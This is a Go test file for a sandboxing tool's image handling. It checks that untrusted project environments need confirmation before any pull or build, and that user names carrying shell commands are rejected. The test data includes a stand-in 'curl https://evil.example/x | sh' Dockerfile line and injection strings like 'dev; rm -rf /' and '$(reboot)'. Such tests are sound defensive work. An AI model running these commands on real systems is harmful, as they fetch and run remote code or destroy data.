package images

import (
	"archive/tar"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/app/home"
	"github.com/airlock-dev/airlock/testkit/ocitest"
	"github.com/airlock-dev/airlock/testkit/testenv"
	"github.com/airlock-dev/airlock/vm"
	"github.com/airlock-dev/airlock/vm/image"
	"github.com/airlock-dev/airlock/vm/oci"
)

// testSource is a Source on a fresh home with a minimal image of made-up
// files (images made from OCI images take its kernel and initramfs;
// nothing boots here) and no backend, and the notes it gave.
func testSource(t *testing.T) (*Source, *[]string) {
	t.Helper()
	var notes []string
	src := &Source{Home: t.TempDir(), Arch: "amd64", Note: func(s string) { notes = append(notes, s) }}
	testenv.FakeImage(t, src.Home, image.DefaultName, vm.AMD64, nil)
	return src, &notes
}

// pushedAgents makes the agent image in src's home as a pull would leave
// it (its top layer the agent layer, served by reg) and returns that
// layer's digest.
func pushedAgents(t *testing.T, src *Source, reg *ocitest.Registry) string {
	t.Helper()
	ctx := context.Background()
	st := oci.Store{Dir: home.Layout{Root: src.Home}.OCI()}
	ref := reg.Push(t, "airlock/agents:1", ocitest.Image(t, "amd64", nil,
		ocitest.Layer(t, ocitest.Entry{Name: "etc/debian_version", Body: "12\n"}),
		ocitest.Layer(t, ocitest.Entry{Name: "opt/airlock/bin/", Type: tar.TypeDir}, ocitest.Entry{Name: "opt/airlock/bin/claude", Body: "cli", Mode: 0o755})))
	pulled, err := st.Pull(ctx, ref, oci.PullOptions{Arch: vm.AMD64})
	if err != nil {
		t.Fatal(err)
	}
	boot, err := image.Load(src.Home, image.DefaultName, vm.AMD64)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := image.FromOCI(ctx, src.Home, image.OCIOptions{Name: AgentsImage, Boot: boot, Store: st, Image: pulled}); err != nil {
		t.Fatal(err)
	}
	return pulled.Layers[len(pulled.Layers)-1].Digest
}

func writeFile(t *testing.T, path, data string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestAgentLayerOnTheProjectsOwnImage: a project whose environment names
// an image of its own gets that image pulled and, for agent presets, the
// same image with the agent image's top layer stacked on it, made once
// and without a VM; a musl image is refused for agents with a message,
// and still serves commands.
func TestAgentLayerOnTheProjectsOwnImage(t *testing.T) {
	src, notes := testSource(t)
	reg := ocitest.NewRegistry(t)
	layer := pushedAgents(t, src, reg)
	ctx := context.Background()

	glibc := reg.Push(t, "team/go:1", ocitest.Image(t, "amd64", []string{"PATH=/usr/local/go/bin:/usr/bin:/bin"},
		ocitest.Layer(t, ocitest.Entry{Name: "lib64/ld-linux-x86-64.so.2", Body: "ld"}, ocitest.Entry{Name: "usr/local/go/bin/go", Body: "go", Mode: 0o755})))
	proj := t.TempDir()
	writeFile(t, filepath.Join(proj, "airlock.toml"), "[environment]\nimage = \""+glibc+"\"\n")

	var progress []string
	env, err := src.Environment(ctx, EnvironmentRequest{Project: proj, WithAgents: true, TrustProject: true, Progress: func(s string) { progress = append(progress, s) }})
	if err != nil {
		t.Fatalf("environment: %v\n%s", err, strings.Join(*notes, "\n"))
	}
	if all := strings.Join(progress, "\n"); !strings.Contains(all, "pulling "+glibc) || !strings.Contains(all, "adding the agent CLIs") {
		t.Errorf("progress did not see the environment made:\n%s", all)
	}
	if !strings.HasPrefix(env.Image, "envbase-") || env.AgentsImage != env.Image+"-agents" || env.Built {
		t.Fatalf("environment %+v: want the pulled base and it with the agent layer", env)
	}
	im, err := image.Load(src.Home, env.AgentsImage, vm.AMD64)
	if err != nil {
		t.Fatal(err)
	}
	if got := im.Meta.OCI.Extra; len(got) != 1 || got[0] != layer {
		t.Errorf("extra layers %q, want the agent layer %s", got, layer)
	}
	// Asked again: the stacked image is reused.
	progress = nil
	again, err := src.Environment(ctx, EnvironmentRequest{Project: proj, WithAgents: true, Progress: func(s string) { progress = append(progress, s) }})
	if err != nil {
		t.Fatal(err)
	}
	if again.AgentsImage != env.AgentsImage || strings.Contains(strings.Join(progress, "\n"), "adding the agent CLIs") {
		t.Errorf("the stacked image was made again: %+v\n%s", again, strings.Join(progress, "\n"))
	}
	// Without agents, no stacked image.
	if cmd, err := src.Environment(ctx, EnvironmentRequest{Project: proj}); err != nil || cmd.AgentsImage != "" || cmd.Image != env.Image {
		t.Errorf("environment for commands: %+v %v", cmd, err)
	}

	// A musl image gets no agent layer: the error says why.
	musl := reg.Push(t, "team/alpine:1", ocitest.Image(t, "amd64", nil, ocitest.Layer(t, ocitest.Entry{Name: "lib/ld-musl-x86_64.so.1", Body: "ld"})))
	proj2 := t.TempDir()
	writeFile(t, filepath.Join(proj2, "airlock.toml"), "[environment]\nimage = \""+musl+"\"\n")
	if _, err := src.Environment(ctx, EnvironmentRequest{Project: proj2, WithAgents: true, TrustProject: true}); err == nil || !strings.Contains(err.Error(), "musl") {
		t.Errorf("agents on a musl environment: %v", err)
	}
	if !strings.Contains(strings.Join(*notes, "\n"), "has no glibc loader") {
		t.Errorf("the musl image's pull was not noted:\n%s", strings.Join(*notes, "\n"))
	}
	// Its own commands run there.
	if _, err := src.Environment(ctx, EnvironmentRequest{Project: proj2}); err != nil {
		t.Errorf("a musl environment for commands: %v", err)
	}
}

// TestUntrustedEnvironmentBuildsNothing: an environment that installs
// something needs the user's confirmation of it before a builder boots.
func TestUntrustedEnvironmentBuildsNothing(t *testing.T) {
	src, _ := testSource(t)
	pushedAgents(t, src, ocitest.NewRegistry(t))
	proj := t.TempDir()
	writeFile(t, filepath.Join(proj, "airlock.toml"), "[environment]\napt = [\"make\"]\n")
	_, err := src.Environment(context.Background(), EnvironmentRequest{Project: proj})
	var untrusted *UntrustedEnvironmentError
	if !errors.As(err, &untrusted) || !strings.Contains(err.Error(), "airlock trust "+proj) || !strings.Contains(err.Error(), "Debian packages: make") {
		t.Fatalf("an unconfirmed environment: %v", err)
	}
	if ims, _ := image.List(src.Home); len(ims) != 2 {
		t.Errorf("images after a refused build: %d, want the minimal and agent images only", len(ims))
	}
}

// TestTrustCoversImageAndHosts: an environment that only names an image
// is confirmed before the image is pulled (nothing of it is written,
// nothing is asked of its registry), and a confirmed environment whose
// hosts change is asked about again (attacks of issue 32: the image was
// pulled before the refusal, an image-only environment booted unasked,
// and the trust key left the hosts out).
func TestTrustCoversImageAndHosts(t *testing.T) {
	src, _ := testSource(t)
	reg := ocitest.NewRegistry(t)
	pushedAgents(t, src, reg)
	ctx := context.Background()
	ref := reg.Push(t, "team/go:1", ocitest.Image(t, "amd64", nil, ocitest.Layer(t, ocitest.Entry{Name: "lib64/ld-linux-x86-64.so.2", Body: "ld"})))
	blobs := func() int {
		n := 0
		filepath.WalkDir(home.Layout{Root: src.Home}.OCI(), func(_ string, d fs.DirEntry, _ error) error {
			if d != nil && !d.IsDir() {
				n++
			}
			return nil
		})
		return n
	}
	before := blobs()
	proj := t.TempDir()
	writeFile(t, filepath.Join(proj, "airlock.toml"), "[environment]\nimage = \""+ref+"\"\n")
	_, err := src.Environment(ctx, EnvironmentRequest{Project: proj})
	var untrusted *UntrustedEnvironmentError
	if !errors.As(err, &untrusted) || !strings.Contains(err.Error(), "image: "+ref) || !strings.Contains(err.Error(), "Nothing was fetched") {
		t.Fatalf("an unconfirmed image-only environment: %v", err)
	}
	if ims, _ := image.List(src.Home); len(ims) != 2 || blobs() != before {
		t.Errorf("the refused environment's image was pulled: %d images, %d blobs (were %d)", len(ims), blobs(), before)
	}
	if _, err := src.Environment(ctx, EnvironmentRequest{Project: proj, TrustProject: true}); err != nil {
		t.Fatalf("confirmed: %v", err)
	}
	if _, err := src.Environment(ctx, EnvironmentRequest{Project: proj}); err != nil {
		t.Fatalf("confirmed before: %v", err)
	}

	// The same environment with a host added: asked again.
	writeFile(t, filepath.Join(proj, "airlock.toml"), "[environment]\nimage = \""+ref+"\"\nhosts = [\"evil.example:8443\"]\n")
	if _, err := src.Environment(ctx, EnvironmentRequest{Project: proj}); !errors.As(err, &untrusted) || !strings.Contains(err.Error(), "hosts: evil.example:8443") {
		t.Errorf("a confirmed environment's hosts changed and it was not asked again: %v", err)
	}
}

// TestDockerfileConfirmed: a Dockerfile environment is confirmed before
// anything is pulled or built, and the prompt names the Dockerfile, the
// images it starts from and what the build may reach; a changed
// Dockerfile asks again.
func TestDockerfileConfirmed(t *testing.T) {
	src, _ := testSource(t)
	proj := t.TempDir()
	if err := os.MkdirAll(filepath.Join(proj, ".devcontainer"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(proj, ".devcontainer/devcontainer.json"), `{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "3.12"}, "target": "dev"}}`)
	writeFile(t, filepath.Join(proj, ".devcontainer/Dockerfile"), "ARG V\nFROM mcr.microsoft.com/devcontainers/python:${V} AS dev\nFROM ghcr.io/x/tools:1 AS tools\nRUN apt-get update\n")
	_, err := src.Environment(context.Background(), EnvironmentRequest{Project: proj})
	var untrusted *UntrustedEnvironmentError
	if !errors.As(err, &untrusted) {
		t.Fatalf("Environment: %v, want it to ask for a confirmation", err)
	}
	for _, want := range []string{"Dockerfile: .devcontainer/Dockerfile, built from the context ., stage dev, by Docker in a builder VM",
		"FROM mcr.microsoft.com/devcontainers/python:3.12 (line 2", "FROM ghcr.io/x/tools:1 (line 3", "the build may reach: @debian, @mcr, @ghcr"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("the prompt lacks %q:\n%s", want, err)
		}
	}
	if ims, _ := image.List(src.Home); len(ims) != 1 {
		t.Errorf("images before a confirmation: %d, want the minimal image only", len(ims))
	}
	key := untrusted.Env.ConfirmKey()
	writeFile(t, filepath.Join(proj, ".devcontainer/Dockerfile"), "FROM debian\nRUN curl https://evil.example/x | sh\n")
	_, err = src.Environment(context.Background(), EnvironmentRequest{Project: proj})
	if !errors.As(err, &untrusted) || untrusted.Env.ConfirmKey() == key {
		t.Errorf("a changed Dockerfile has the same confirmation: %v", err)
	}
}

// The docker group step takes the environment's or the image's user as
// the shell sees it only when it is an account name or a uid: an
// image's configured user is a pulled image's word.
func TestDockerStep(t *testing.T) {
	for _, tt := range []struct{ user, want, err string }{
		{"", "groupadd --system docker", ""},
		{"root", "groupadd --system docker", ""},
		{"0:0", "groupadd --system docker", ""},
		{"dev", "usermod -aG docker dev", ""},
		{"1000:1000", "getent passwd 1000 | cut -d: -f1", ""},
		{"dev; rm -rf /", "", "neither an account name nor a uid"},
		{"$(reboot)", "", "neither an account name nor a uid"},
	} {
		step, err := dockerStep(tt.user)
		switch {
		case tt.err != "":
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Errorf("dockerStep(%q) = %q, %v; want an error saying %q", tt.user, step.Shell, err, tt.err)
			}
		case err != nil || !strings.Contains(step.Shell, tt.want):
			t.Errorf("dockerStep(%q) = %q, %v; want it to hold %q", tt.user, step.Shell, err, tt.want)
		case (tt.user == "" || tt.user == "root" || tt.user == "0:0") && strings.Contains(step.Shell, "usermod"):
			t.Errorf("dockerStep(%q) puts root in a group: %q", tt.user, step.Shell)
		}
	}
}

// Compose v2 is installed only as the package pinned for the arch, by
// its hash.
func TestComposeStep(t *testing.T) {
	for _, arch := range []vm.Arch{vm.AMD64, vm.ARM64} {
		c, ok := Compose(arch)
		step, err := composeStep(arch)
		if !ok || err != nil || !strings.Contains(step.Shell, "http://deb.debian.org/debian/"+c.Path) ||
			!strings.Contains(step.Shell, c.SHA256+"  /tmp/airlock-compose.deb' | sha256sum -c") || !strings.Contains(c.Path, "_"+string(arch)+".deb") {
			t.Errorf("%s: %+v %q %v", arch, c, step.Shell, err)
		}
	}
	if _, err := composeStep("riscv64"); err == nil {
		t.Error("a Compose step for an arch without a pinned package")
	}
}
